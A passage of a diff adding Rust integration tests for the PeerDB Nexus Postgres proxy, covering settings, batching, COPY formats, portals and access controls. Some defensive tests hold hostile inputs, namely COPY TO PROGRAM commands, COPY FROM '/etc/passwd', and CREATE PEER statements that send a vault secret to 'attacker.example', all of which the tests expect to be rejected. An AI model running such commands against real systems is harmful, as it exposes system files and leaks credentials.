+        "SET peerdb.insert_batch_delay = '100000000000000000000d';",
+        "/*+ timeout(100000000000000000000000) */ SELECT 1;",
+    ] {
+        let err = client.simple_query(invalid).unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            invalid
+        );
+    }
+    // the connection survives
+    assert!(client.simple_query("SELECT 1;").is_ok());
+}
+
+#[test]
+fn insert_batch_settings_are_validated() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for invalid in [
+        "SET peerdb.insert_batching = maybe;",
+        "SET peerdb.insert_batch_size = 0;",
+        "SET peerdb.insert_batch_delay = '0';",
+    ] {
+        let err = client.simple_query(invalid).unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            invalid
+        );
+    }
+    for valid in [
+        "SET peerdb.insert_batching = on;",
+        "SET peerdb.insert_batch_size = 500;",
+        "SET peerdb.insert_batch_delay = '1s';",
+    ] {
+        client
+            .simple_query(valid)
+            .expect("valid settings should be accepted");
+    }
+}
+
+// (peer table, table in the catalog database pg_test points at)
+const BATCHED_TABLE: (&str, &str) = (
+    "pg_test.public.insert_batching_test",
+    "public.insert_batching_test",
+);
+
+fn create_batched_table(client: &mut Client) -> Client {
+    create_peers::create_pg::create(client);
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(&format!(
+            "DROP TABLE IF EXISTS {0};
+            CREATE TABLE {0} (id int PRIMARY KEY, name text);",
+            BATCHED_TABLE.1
+        ))
+        .expect("failed to create table");
+    catalog
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn insert_batching_sends_rows_before_other_statements() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let mut catalog = create_batched_table(&mut client);
+
+    for set in [
+        "SET peerdb.insert_batching = on;",
+        "SET peerdb.insert_batch_delay = '1h';",
+    ] {
+        client.simple_query(set).unwrap();
+    }
+    for id in 0..3 {
+        let insert = format!("INSERT INTO {} VALUES ({id}, 'row {id}')", BATCHED_TABLE.0);
+        let inserted = client
+            .execute(insert.as_str(), &[])
+            .expect("insert should be buffered");
+        assert_eq!(inserted, 1);
+    }
+    let count = |catalog: &mut Client| -> i64 {
+        catalog
+            .query_one(
+                format!("SELECT count(*) FROM {}", BATCHED_TABLE.1).as_str(),
+                &[],
+            )
+            .unwrap()
+            .get(0)
+    };
+    assert_eq!(count(&mut catalog), 0, "rows should still be buffered");
+
+    // any other statement sends the buffered rows first
+    let rows = fetch_rows(
+        &mut client,
+        &format!("SELECT count(*) FROM {};", BATCHED_TABLE.0),
+    );
+    assert_eq!(rows, vec![vec![Some("3".to_owned())]]);
+
+    // a failing batch is reported by the statement that sends it
+    client
+        .simple_query(&format!(
+            "INSERT INTO {} VALUES (0, 'duplicate');",
+            BATCHED_TABLE.0
+        ))
+        .expect("insert should be buffered");
+    let err = client.simple_query("SELECT 1;").unwrap_err();
+    assert!(err.to_string().contains("duplicate key"), "{}", err);
+    assert_eq!(count(&mut catalog), 3);
+}
+
+// not a test as such: compares the throughput of single-row INSERTs with and
+// without batching, run with `cargo test insert_batching_throughput --
+// --ignored --nocapture`.
+#[test]
+#[ignore = "create peers needs flow api"]
+fn insert_batching_throughput() {
+    const ROWS: i32 = 5_000;
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let mut catalog = create_batched_table(&mut client);
+
+    for batching in ["off", "on"] {
+        catalog
+            .batch_execute(&format!("TRUNCATE {};", BATCHED_TABLE.1))
+            .unwrap();
+        client
+            .simple_query(&format!("SET peerdb.insert_batching = {batching};"))
+            .unwrap();
+
+        let start = std::time::Instant::now();
+        for id in 0..ROWS {
+            client
+                .simple_query(&format!(
+                    "INSERT INTO {} VALUES ({id}, 'row {id}');",
+                    BATCHED_TABLE.0
+                ))
+                .unwrap();
+        }
+        // sends the last batch
+        client.simple_query("SELECT 1;").unwrap();
+        let elapsed = start.elapsed();
+
+        let inserted: i64 = catalog
+            .query_one(
+                format!("SELECT count(*) FROM {}", BATCHED_TABLE.1).as_str(),
+                &[],
+            )
+            .unwrap()
+            .get(0);
+        assert_eq!(inserted, ROWS as i64);
+        println!(
+            "insert batching {}: {} rows in {:?}, {:.0} rows/s",
+            batching,
+            ROWS,
+            elapsed,
+            ROWS as f64 / elapsed.as_secs_f64()
+        );
+    }
+}
+
+fn show(client: &mut Client, name: &str) -> Option<String> {
+    fetch_rows(client, &format!("SHOW {};", name))
+        .remove(0)
+        .remove(0)
+}
+
+#[test]
+fn driver_startup_settings_stay_in_the_session() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for set in [
+        "SET application_name = 'jdbc';",
+        "SET search_path = public;",
+        "SET extra_float_digits = 3;",
+    ] {
+        client.simple_query(set).expect(set);
+    }
+    assert_eq!(
+        show(&mut client, "application_name").as_deref(),
+        Some("jdbc")
+    );
+    assert_eq!(show(&mut client, "search_path").as_deref(), Some("public"));
+    assert_eq!(
+        show(&mut client, "extra_float_digits").as_deref(),
+        Some("3")
+    );
+    assert!(show(&mut client, "server_version").is_some());
+}
+
+#[test]
+fn advertised_parameters_are_configurable() {
+    let server = PeerDBServer::with_env(&[
+        ("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32"),
+        ("PEERDB_ADVERTISED_SERVER_VERSION", "15.4"),
+        (
+            "PEERDB_ADVERTISED_PARAMETERS",
+            "is_superuser=off,standard_conforming_strings=on",
+        ),
+    ]);
+    let mut conn = RawConnection::open();
+    conn.startup(196608);
+    let mut parameters = HashMap::new();
+    loop {
+        match conn.recv() {
+            (b'S', body) => {
+                let mut fields = body.split(|b| *b == 0).map(String::from_utf8_lossy);
+                let name = fields.next().unwrap().into_owned();
+                let value = fields.next().unwrap().into_owned();
+                parameters.insert(name, value);
+            }
+            (b'Z', _) => break,
+            (b'E', body) => panic!("startup failed: {}", String::from_utf8_lossy(&body)),
+            _ => (),
+        }
+    }
+    let parameter = |name: &str| parameters.get(name).map(String::as_str);
+    assert_eq!(parameter("server_version"), Some("15.4"));
+    assert_eq!(parameter("is_superuser"), Some("off"));
+    assert_eq!(parameter("standard_conforming_strings"), Some("on"));
+    // always sent, whatever is configured
+    assert_eq!(parameter("client_encoding"), Some("UTF8"));
+    assert_eq!(parameter("DateStyle"), Some("ISO, MDY"));
+
+    let mut client = server.connect_dying();
+    assert_eq!(show(&mut client, "server_version").as_deref(), Some("15.4"));
+}
+
+#[test]
+fn reset_restores_the_default_of_a_variable() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET statement_timeout = '100ms';")
+        .unwrap();
+    client
+        .simple_query("SET application_name = 'pooled';")
+        .unwrap();
+    client.simple_query("RESET statement_timeout;").unwrap();
+    assert_eq!(show(&mut client, "statement_timeout").as_deref(), Some("0"));
+    // only the variable named is reset
+    assert_eq!(
+        show(&mut client, "application_name").as_deref(),
+        Some("pooled")
+    );
+    // the timeout is no longer enforced
+    assert!(client.simple_query("SELECT pg_sleep(0.2);").is_ok());
+
+    // also through the extended query protocol, as poolers send it
+    client.execute("RESET application_name", &[]).unwrap();
+    assert_eq!(show(&mut client, "application_name").as_deref(), Some(""));
+}
+
+#[test]
+fn reset_all_restores_every_variable() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client.simple_query("SET peerdb.dry_run = on;").unwrap();
+    client.simple_query("SET my.custom = 'value';").unwrap();
+    client.simple_query("RESET ALL;").unwrap();
+    assert_eq!(show(&mut client, "peerdb.dry_run").as_deref(), Some("off"));
+    assert!(client.simple_query("SHOW my.custom;").is_err());
+}
+
+#[test]
+fn portals_are_executed_in_turns() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let mut tx = client.transaction().unwrap();
+
+    let first = tx
+        .prepare("SELECT generate_series(1, 5)::text AS n")
+        .unwrap();
+    let second = tx
+        .prepare("SELECT generate_series(101, 103)::text AS n")
+        .unwrap();
+    let first = tx.bind(&first, &[]).unwrap();
+    let second = tx.bind(&second, &[]).unwrap();
+
+    let mut execute = |portal: &postgres::Portal, max_rows: i32| -> Vec<String> {
+        tx.query_portal(portal, max_rows)
+            .expect("execute should succeed")
+            .iter()
+            .map(|row| row.get(0))
+            .collect()
+    };
+    assert_eq!(execute(&first, 2), ["1", "2"]);
+    assert_eq!(execute(&second, 2), ["101", "102"]);
+    assert_eq!(execute(&first, 2), ["3", "4"]);
+    assert_eq!(execute(&second, 2), ["103"]);
+    // no limit returns the rest
+    assert_eq!(execute(&first, 0), ["5"]);
+    assert!(execute(&second, 2).is_empty());
+}
+
+#[test]
+fn prepared_statements_describe_their_columns() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let describe = |client: &mut Client, query: &str| {
+        client
+            .prepare(query)
+            .expect("prepare should succeed")
+            .columns()
+            .iter()
+            .map(|column| (column.name().to_owned(), column.type_().clone()))
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        describe(&mut client, "SELECT 1::int4 AS id, 'a'::text AS name"),
+        [
+            ("id".to_owned(), Type::INT4),
+            ("name".to_owned(), Type::TEXT)
+        ]
+    );
+    assert_eq!(
+        describe(&mut client, "SELECT peerdb.version()")
+            .into_iter()
+            .map(|(_, ty)| ty)
+            .collect::<Vec<_>>(),
+        [Type::TEXT]
+    );
+    assert!(describe(&mut client, "SET statement_timeout = '1s'").is_empty());
+}
+
+#[test]
+fn prepared_statements_hold_a_single_command() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .prepare("SELECT 1; SELECT 2")
+        .expect_err("several commands should not prepare");
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+    let message = err.as_db_error().expect("should be a db error").message();
+    assert!(message.contains("multiple commands"), "{}", message);
+    // the connection is usable afterwards
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT 1;")[0][0].as_deref(),
+        Some("1")
+    );
+}
+
+#[test]
+fn portals_return_at_most_max_rows() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let mut tx = client.transaction().unwrap();
+
+    let stmt = tx
+        .prepare("SELECT generate_series(1, 20)::text AS n")
+        .unwrap();
+    let portal = tx.bind(&stmt, &[]).unwrap();
+    let rows = tx.query_portal(&portal, 5).unwrap();
+    assert_eq!(
+        rows.iter().map(|row| row.get(0)).collect::<Vec<String>>(),
+        ["1", "2", "3", "4", "5"]
+    );
+    assert_eq!(tx.query_portal(&portal, 0).unwrap().len(), 15);
+
+    // rows of nexus' virtual tables too
+    let settings = tx.query("SELECT * FROM peerdb.config", &[]).unwrap().len();
+    assert!(settings > 2);
+    let stmt = tx.prepare("SELECT * FROM peerdb.config").unwrap();
+    let portal = tx.bind(&stmt, &[]).unwrap();
+    assert_eq!(tx.query_portal(&portal, 2).unwrap().len(), 2);
+    assert_eq!(tx.query_portal(&portal, 0).unwrap().len(), settings - 2);
+}
+
+fn copy_out(client: &mut Client, query: &str) -> String {
+    let mut out = String::new();
+    client
+        .copy_out(query)
+        .unwrap()
+        .read_to_string(&mut out)
+        .unwrap();
+    out
+}
+
+#[test]
+fn copy_to_stdout_csv_with_custom_delimiter() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let out = copy_out(
+        &mut client,
+        "COPY (SELECT 1 AS id, 'a;b' AS name, E'two\\nlines' AS note, 'say \"hi\"' AS quote) \
+         TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER ';')",
+    );
+    assert_eq!(
+        out,
+        "id;name;note;quote\n1;\"a;b\";\"two\nlines\";\"say \"\"hi\"\"\"\n"
+    );
+
+    // text format escapes instead of quoting
+    let out = copy_out(
+        &mut client,
+        "COPY (SELECT E'a\\tb' AS a, E'c\\nd' AS b) TO STDOUT",
+    );
+    assert_eq!(out, "a\\tb\tc\\nd\n");
+}
+
+#[test]
+fn copy_to_stdout_null_string() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let out = copy_out(
+        &mut client,
+        "COPY (SELECT NULL::text AS a, 'NULL' AS b, '' AS c) TO STDOUT WITH (FORMAT csv, NULL 'NULL')",
+    );
+    // a value that reads as the NULL string is quoted
+    assert_eq!(out, "NULL,\"NULL\",\n");
+
+    let out = copy_out(
+        &mut client,
+        "COPY (SELECT NULL::int AS a, 2 AS b) TO STDOUT",
+    );
+    assert_eq!(out, "\\N\t2\n");
+
+    let err = client
+        .copy_out("COPY (SELECT 1) TO STDOUT WITH (FORMAT binary, NULL 'x')")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+}
+
+#[test]
+fn copy_to_stdout_gzip_round_trips() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let query = "COPY (SELECT i, md5(i::text) FROM generate_series(1, 20000) i) \
+        TO STDOUT WITH (FORMAT csv, HEADER)";
+    let plain = copy_out(&mut client, query);
+
+    client
+        .simple_query("SET peerdb.copy_compression = 'gzip';")
+        .expect("setting peerdb.copy_compression should succeed");
+    let mut compressed = Vec::new();
+    client
+        .copy_out(query)
+        .unwrap()
+        .read_to_end(&mut compressed)
+        .unwrap();
+    assert!(compressed.len() < plain.len());
+    let mut out = String::new();
+    flate2::read::GzDecoder::new(compressed.as_slice())
+        .read_to_string(&mut out)
+        .expect("the export should be valid gzip");
+    assert_eq!(out, plain);
+
+    // query results stay uncompressed
+    let res = client
+        .simple_query("SELECT 'plain' AS a;")
+        .expect("query should succeed");
+    let value = res.iter().find_map(|msg| match msg {
+        SimpleQueryMessage::Row(row) => row.get(0),
+        _ => None,
+    });
+    assert_eq!(value, Some("plain"));
+
+    let err = client
+        .simple_query("SET peerdb.copy_compression = 'zstd';")
+        .expect_err("unknown compressions should be rejected");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+}
+
+#[test]
+fn copy_to_stdout_binary_is_passed_through_from_postgres() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let query = "COPY (SELECT i, md5(i::text), i / 7.0 AS ratio, NULL::date \
+        FROM generate_series(1, 5000) i) TO STDOUT WITH (FORMAT binary)";
+
+    let mut through_nexus = Vec::new();
+    client
+        .copy_out(query)
+        .unwrap()
+        .read_to_end(&mut through_nexus)
+        .unwrap();
+    let mut from_catalog = Vec::new();
+    connect_catalog()
+        .copy_out(query)
+        .unwrap()
+        .read_to_end(&mut from_catalog)
+        .unwrap();
+    assert!(through_nexus.starts_with(b"PGCOPY\n\xff\r\n\0"));
+    assert_eq!(through_nexus, from_catalog);
+}
+
+#[test]
+fn copy_to_stdout_arrow_decodes_into_batches() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let query = "COPY (SELECT i, md5(i::text) AS hash, i % 2 = 0 AS even, \
+        CASE WHEN i % 3 = 0 THEN NULL ELSE i / 2.0 END AS half, DATE '2024-01-01' + i AS day \
+        FROM generate_series(1, 20000) i) TO STDOUT WITH (FORMAT arrow)";
+
+    let mut data = Vec::new();
+    client
+        .copy_out(query)
+        .unwrap()
+        .read_to_end(&mut data)
+        .unwrap();
+    let reader = arrow_ipc::reader::StreamReader::try_new(data.as_slice(), None)
+        .expect("the data should be an arrow stream");
+    let schema = reader.schema();
+    let columns = schema
+        .fields()
+        .iter()
+        .map(|field| (field.name().as_str(), field.data_type().clone()))
+        .collect::<Vec<_>>();
+    assert_eq!(
+        columns,
+        vec![
+            ("i", arrow_schema::DataType::Int32),
+            ("hash", arrow_schema::DataType::Utf8),
+            ("even", arrow_schema::DataType::Boolean),
+            // numeric is kept as text
+            ("half", arrow_schema::DataType::Utf8),
+            ("day", arrow_schema::DataType::Date32),
+        ]
+    );
+
+    let batches = reader
+        .collect::<Result<Vec<_>, _>>()
+        .expect("the batches should decode");
+    assert!(batches.len() > 1, "20000 rows should span several batches");
+    assert_eq!(
+        batches.iter().map(|batch| batch.num_rows()).sum::<usize>(),
+        20000
+    );
+    let first = &batches[0];
+    let ids = first
+        .column(0)
+        .as_primitive::<arrow_array::types::Int32Type>();
+    assert_eq!(ids.values()[..3], [1, 2, 3]);
+    assert_eq!(
+        first.column(1).as_string::<i32>().value(0),
+        "c4ca4238a0b923820dcc509a6f75849b"
+    );
+    assert!(!first.column(2).as_boolean().value(0));
+    assert!(first.column(3).is_null(2));
+    // 2024-01-02, in days since the epoch
+    let days = first
+        .column(4)
+        .as_primitive::<arrow_array::types::Date32Type>();
+    assert_eq!(days.value(0), 19724);
+
+    let err = client
+        .copy_out("COPY (SELECT 1) TO STDOUT WITH (FORMAT arrow, HEADER)")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR));
+}
+
+#[test]
+fn spooled_results_are_sent_in_full() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET peerdb.spool_large_results = on;")
+        .unwrap();
+    // ~5MB of rows, most of them spooled to disk past the 1MB threshold
+    client
+        .simple_query("SET peerdb.spool_threshold = '1MB';")
+        .unwrap();
+    let rows = client
+        .query(
+            "SELECT i, repeat('x', 1000) AS padding FROM generate_series(1, 5000) AS i",
+            &[],
+        )
+        .unwrap();
+    assert_eq!(rows.len(), 5000);
+    for (n, row) in rows.iter().enumerate() {
+        assert_eq!(row.get::<_, i32>(0), n as i32 + 1);
+        assert_eq!(row.get::<_, String>(1).len(), 1000);
+    }
+
+    // a result under the threshold stays in memory
+    client
+        .simple_query("SET peerdb.spool_threshold = '64MB';")
+        .unwrap();
+    let rows = client
+        .query("SELECT generate_series(1, 10) AS i", &[])
+        .unwrap();
+    assert_eq!(rows.len(), 10);
+
+    let err = client
+        .simple_query("SET peerdb.spool_threshold = 'lots';")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+}
+
+#[test]
+fn peer_types_list_capabilities() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(&mut client, "SELECT * FROM peerdb.peer_types;");
+    let peer_type = |name: &str| {
+        rows.iter()
+            .find(|row| row[0].as_deref() == Some(name))
+            .unwrap_or_else(|| panic!("expected peer type {} in {:?}", name, rows))
+            .iter()
+            .skip(1)
+            .map(|flag| flag.as_deref() == Some("t"))
+            .collect::<Vec<_>>()
+    };
+    // queryable, writable, supports_cursors, supports_transactions, supports_copy
+    let bigquery = peer_type("BIGQUERY");
+    assert!(bigquery[0]);
+    assert!(!bigquery[3]);
+    assert_eq!(peer_type("POSTGRES"), [true; 5]);
+    assert_eq!(peer_type("CLICKHOUSE"), [true, false, true, false, false]);
+    assert_eq!(peer_type("KAFKA"), [false; 5]);
+}
+
+#[test]
+fn copy_programs_and_files_are_rejected() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for query in [
+        "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/nexus_copy';",
+        "COPY peers FROM PROGRAM 'echo 1';",
+        "COPY (SELECT 1) TO '/tmp/nexus_copy';",
+        "COPY peers FROM '/etc/passwd';",
+    ] {
+        let err = client.simple_query(query).unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INSUFFICIENT_PRIVILEGE),
+            "{}: {:?}",
+            query,
+            err
+        );
+        assert!(err.to_string().contains("STDIN or STDOUT"), "{}", err);
+    }
+    // and when prepared
+    let err = client
+        .prepare("COPY (SELECT 1) TO PROGRAM 'cat'")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+}
+
+#[test]
+fn peerdb_version_reports_the_build() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(&mut client, "SELECT peerdb.version();");
+    let version = rows[0][0].as_deref().unwrap_or_default();
+    assert!(version.starts_with("PeerDB Nexus "), "{}", version);
+    assert!(version.contains("commit "), "{}", version);
+}
+
+#[test]
+fn peer_with_unknown_secret_backend_is_rejected() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    // the references are resolved before the flow service is asked to
+    // validate the peer, so this fails even without one
+    let err = client
+        .simple_query(
+            "CREATE PEER pg_bad_secret FROM POSTGRES WITH
+            (
+                host = 'localhost',
+                port = '5432',
+                user = 'postgres',
+                password = 'secret://nowhere/pg#password',
+                database = 'postgres'
+            );",
+        )
+        .unwrap_err();
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::SQLCLIENT_UNABLE_TO_ESTABLISH_SQLCONNECTION)
+    );
+    assert!(
+        err.to_string().contains("unknown secret backend"),
+        "{}",
+        err
+    );
+    assert!(fetch_rows(&mut client, "SHOW PEERS LIKE 'pg_bad_secret';").is_empty());
+}
+
+#[test]
+fn secret_references_are_restricted_to_admins() {
+    // non-admins connect without a password from localhost
+    let server = PeerDBServer::with_env(&[(
+        "PEERDB_AUTH_RULES",
+        "trust * 127.0.0.1/32,trust * ::1/128,scram",
+    )]);
+    let _client = server.connect_dying();
+
+    // the secret would be sent to whichever host the peer names
+    let mut non_admin = Client::connect("host=localhost port=9900 user=anyone", NoTls)
+        .expect("localhost connections should not need a password");
+    for query in [
+        "CREATE PEER pg_exfil FROM POSTGRES WITH (host = 'attacker.example', port = '5432', \
+        user = 'u', password = 'secret://vault/secret/data/pg_prod#password', database = 'd');",
+        "ALTER PEER pg_exfil FROM POSTGRES SET CONFIG (host = 'attacker.example', \
+        port = '5432', user = 'u', password = 'secret://aws/pg_prod', database = 'd');",
+    ] {
+        let err = non_admin.simple_query(query).unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INSUFFICIENT_PRIVILEGE),
+            "{}",
+            query
+        );
+    }
+}
+
+#[test]
+fn set_config_changes_slow_query_threshold_live() {
+    // non-admins connect without a password from localhost
+    let server = PeerDBServer::with_env(&[(
+        "PEERDB_AUTH_RULES",
+        "trust * 127.0.0.1/32,trust * ::1/128,scram",
+    )]);
+    let mut client = server.connect_dying();
+    let mut other_client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('slow_query_threshold', '50ms');",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("50ms"));
+    // the setting applies to the other connections right away
+    let rows = fetch_rows(&mut other_client, "SELECT * FROM peerdb.config;");
+    let threshold = rows
+        .iter()
+        .find(|row| row[0].as_deref() == Some("slow_query_threshold"))
+        .expect("peerdb.config should list slow_query_threshold");
+    assert_eq!(threshold[1].as_deref(), Some("50ms"));
+
+    other_client
+        .simple_query("SELECT pg_sleep(0.1), 'slow_query_marker' FROM generate_series(1, 1);")
+        .expect("the slow query should succeed");
+    let log = std::fs::read_to_string("server.log").expect("unable to read server.log");
+    assert!(
+        log.lines()
+            .any(|line| line.contains("slow query") && line.contains("slow_query_marker")),
+        "the slow query should be logged"
+    );
+
+    let err = client
+        .simple_query("SELECT peerdb.set_config('slow_query_threshold', 'soon');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+    let err = client
+        .simple_query("SELECT peerdb.set_config('max_speed', '1');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+
+    let mut non_admin = Client::connect("host=localhost port=9900 user=anyone", NoTls)
+        .expect("localhost connections should not need a password");
+    let err = non_admin
+        .simple_query("SELECT peerdb.set_config('slow_query_threshold', '0');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+
+    // the catalog is shared with the other tests
+    fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('slow_query_threshold', '0');",
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn expression_column_names_match_across_peers() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let column_names = |client: &mut Client, from: &str| {
+        let query = format!(
+            "SELECT 1 + 1, upper('a'), CAST(1 AS BIGINT), 2 AS Two, 3 AS \"Three\" FROM {} LIMIT 1;",
+            from
+        );
+        let described = client
+            .prepare(&query)
+            .expect("prepare should succeed")
+            .columns()
+            .iter()
+            .map(|column| column.name().to_owned())
+            .collect::<Vec<_>>();
+        let returned = client
+            .simple_query(&query)
+            .expect("query should succeed")
+            .iter()
+            .find_map(|msg| match msg {
+                SimpleQueryMessage::Row(row) => Some(
+                    row.columns()
+                        .iter()
+                        .map(|column| column.name().to_owned())
+                        .collect::<Vec<_>>(),
+                ),
+                _ => None,
+            })
+            .expect("query should return a row");
+        assert_eq!(described, returned);
+        returned
+    };
+
+    let postgres = column_names(&mut client, "pg_test.pg_catalog.pg_class");
+    let bigquery = column_names(&mut client, "bq_test.users");
+    assert_eq!(postgres, ["?column?", "upper", "int8", "two", "Three"]);
+    assert_eq!(bigquery, postgres);
+}
+
+#[test]
+fn explain_analyze_reports_nexus_timing() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let lines = fetch_rows(
+        &mut client,
+        "EXPLAIN ANALYZE SELECT i FROM generate_series(1, 10) AS i;",
+    )
+    .into_iter()
+    .map(|row| row[0].clone().unwrap_or_default())
+    .collect::<Vec<_>>();
+    assert!(
+        lines.iter().any(|line| line.contains("Function Scan")),
+        "{:?}",
+        lines
+    );
+    for timing in [
+        "Routing Time: ",
+        "Executor Acquisition Time: ",
+        "Time to First Row: ",
+        "Execution Time: ",
+        "Total Time: ",
+    ] {
+        assert!(
+            lines
+                .iter()
+                .any(|line| line.trim_start().starts_with(timing) && line.ends_with(" ms")),
+            "missing {} in {:?}",
+            timing,
+            lines
+        );
+    }
+    assert!(
+        lines.iter().any(|line| line.trim() == "Rows: 10"),
+        "{:?}",
+        lines
+    );
+}
+
+#[test]
+fn query_labels_are_validated() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET peerdb.query_labels = 'team=data, job=nightly';")
+        .expect("valid labels should be accepted");
+    for labels in ["team", "Team=data", "team=data*/", "1team=data"] {
+        let err = client
+            .simple_query(&format!("SET peerdb.query_labels = '{}';", labels))
+            .unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            labels
+        );
+    }
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn query_labels_reach_postgres_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let application_name = |client: &mut Client| {
+        fetch_rows(
+            client,
+            "SELECT current_setting('application_name') FROM pg_test.pg_catalog.pg_class LIMIT 1;",
+        )[0][0]
+            .clone()
+    };
+    // labels set before the peer is connected are applied when it is
+    client
+        .simple_query("SET peerdb.query_labels = 'team=data,job=nightly';")
+        .unwrap();
+    assert_eq!(
+        application_name(&mut client).as_deref(),
+        Some("peerdb_nexus [team=data,job=nightly]")
+    );
+    client
+        .simple_query("SET peerdb.query_labels = 'team=ops';")
+        .unwrap();
+    assert_eq!(
+        application_name(&mut client).as_deref(),
+        Some("peerdb_nexus [team=ops]")
+    );
+    client.simple_query("RESET peerdb.query_labels;").unwrap();
+    assert_eq!(
+        application_name(&mut client).as_deref(),
+        Some("peerdb_nexus")
+    );
+}
+
+#[test]
+fn syntax_errors_report_the_position() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for query in ["SELECT 1 +;", "SELECT 1,\n  2 +\n;"] {
+        let err = client.simple_query(query).unwrap_err();
+        assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR), "{}", err);
+        let position = query.find(';').unwrap() as u32 + 1;
+        assert_eq!(
+            err.as_db_error().and_then(|err| err.position()),
+            Some(&postgres::error::ErrorPosition::Original(position)),
+            "{:?}",
+            query
+        );
+    }
+
+    // the extended protocol reports it when the query is parsed
+    let err = client.prepare("SELECT (1;").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::SYNTAX_ERROR), "{}", err);
+    assert_eq!(
+        err.as_db_error().and_then(|err| err.position()),
+        Some(&postgres::error::ErrorPosition::Original(10))
+    );
+}
+
+#[test]
+fn transaction_defaults_are_validated() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET default_transaction_isolation = 'REPEATABLE  READ';")
+        .expect("known isolation levels should be accepted");
+    client
+        .simple_query("SET default_transaction_read_only = on;")
+        .expect("booleans should be accepted");
+    for query in [
+        "SET default_transaction_isolation = 'snapshot';",
+        "SET default_transaction_read_only = 'sometimes';",
+    ] {
+        let err = client.simple_query(query).unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            query
+        );
+    }
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn transaction_defaults_are_forwarded_to_postgres_peers() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let setting = |client: &mut Client, name: &str| {
+        fetch_rows(
+            client,
+            &format!(
+                "SELECT current_setting('{}') FROM pg_test.pg_catalog.pg_class LIMIT 1;",
+                name
+            ),
+        )[0][0]
+            .clone()
+    };
+    client
+        .simple_query("SET default_transaction_isolation = 'serializable';")
+        .unwrap();
+    assert_eq!(
+        setting(&mut client, "transaction_isolation").as_deref(),
+        Some("serializable")
+    );
+    client
+        .simple_query("SET default_transaction_read_only = on;")
+        .unwrap();
+    assert_eq!(
+        setting(&mut client, "transaction_read_only").as_deref(),
+        Some("on")
+    );
+
+    // BEGIN on a peer that can't honor the defaults fails
+    client
+        .simple_query("SET peerdb.default_peer = bq_test;")
+        .unwrap();
+    let err = client.simple_query("BEGIN;").unwrap_err();
